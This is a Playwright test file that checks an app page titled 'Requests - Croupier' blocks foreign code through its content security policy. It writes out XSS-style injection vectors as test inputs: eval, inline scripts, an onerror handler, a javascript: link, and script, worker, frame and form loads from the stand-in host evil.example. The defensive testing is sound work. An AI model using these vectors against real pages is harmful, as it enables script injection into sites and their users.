import { expect, test } from './fixtures.ts';

/**
 * Runs in the page, and reports whether anything foreign ran. It runs later, because the policy does not hold for what the test
 * evaluates itself.
 */
function attack(kind: string): Promise<string> {
  return new Promise((resolve) => {
    const done = (text: string) => resolve(text);
    Reflect.set(window, 'owned', () => done('ran'));
    setTimeout(() => {
      // A silent refusal is immediate: a page that is still whole after a moment ran nothing foreign.
      const quiet = () => setTimeout(() => done('refused'), 300);
      try {
        if (kind === 'eval') (Reflect.get(window, 'eval') as (text: string) => void)('owned()');
        if (kind === 'new Function')
          (Reflect.construct(Reflect.get(window, 'Function') as FunctionConstructor, ['owned()']) as () => void)();
        if (kind === 'a timer of text') setTimeout('owned()' as unknown as () => void);
        if (kind === 'an inline script') {
          const script = document.createElement('script');
          script.text = 'owned()';
          document.body.append(script);
        }
        if (kind === 'a foreign script') {
          const script = document.createElement('script');
          script.src = 'https://evil.example/x.js';
          document.body.append(script);
        }
        if (kind === 'HTML with a handler') {
          document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="owned()">');
        }
        if (kind === 'a handler by attribute') {
          const image = document.createElement('img');
          image.setAttribute('onerror', 'owned()');
          image.src = 'data:image/png,x';
          document.body.append(image);
        }
        if (kind === 'a javascript address') {
          const link = document.createElement('a');
          link.href = 'javascript:owned()';
          document.body.append(link);
          link.click();
        }
        if (kind === 'a worker of text') new Worker(URL.createObjectURL(new Blob(['1'])));
        if (kind === 'a foreign worker') new Worker('https://evil.example/w.js');
        if (kind === 'a foreign frame') {
          const frame = document.createElement('iframe');
          frame.src = 'https://evil.example/';
          document.body.append(frame);
        }
        if (kind === 'a form to elsewhere') {
          const form = document.createElement('form');
          form.action = 'https://evil.example/';
          document.body.append(form);
          form.submit();
        }
        if (kind === 'a plugin') {
          const object = document.createElement('object');
          object.data = 'https://evil.example/x';
          document.body.append(object);
        }
        quiet();
      } catch (error) {
        done(error instanceof Error ? error.name : 'thrown');
      }
    });
  });
}

const attacks = [
  'eval',
  'new Function',
  'a timer of text',
  'an inline script',
  'a foreign script',
  'HTML with a handler',
  'a handler by attribute',
  'a javascript address',
  'a worker of text',
  'a foreign worker',
  'a foreign frame',
  'a form to elsewhere',
  'a plugin',
];

test('The page is given no Node and no secret of its host, reaches nothing but it, and runs no foreign code', async ({
  workbench,
}) => {
  const { page, troubles } = workbench;
  const names = ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'];
  expect(await page.evaluate((wanted) => wanted.filter((name) => name in window), names)).toEqual([]);
  expect(await page.context().cookies()).toEqual([]);

  troubles.expect(/^policy: |Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|violates the following/);
  const outcomes = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const ask = (work: Promise<unknown>) =>
          work.then(
            () => 'reached',
            () => 'refused',
          );
        const image = () =>
          new Promise((loaded, failed) => {
            const element = new Image();
            element.onload = loaded;
            element.onerror = failed;
            element.src = 'https://evil.example/x.png';
          });
        setTimeout(() => void Promise.all([ask(fetch('https://evil.example/')), ask(image())]).then(resolve));
      }),
  );
  expect(outcomes).toEqual(['refused', 'refused']);
  expect(troubles.all().filter((text) => text.startsWith('policy: ')).length).toBeGreaterThanOrEqual(2);

  const address = page.url();
  for (const kind of attacks) {
    await test.step(kind, async () => {
      const before = troubles.all().length;
      expect(await page.evaluate(attack, kind)).not.toBe('ran');
      expect(page.url()).toBe(address);
      // The page itself is unchanged.
      expect(await page.evaluate(() => document.title)).toBe('Requests - Croupier');
      await expect.poll(() => troubles.all().length).toBeGreaterThan(before);
    });
  }
});
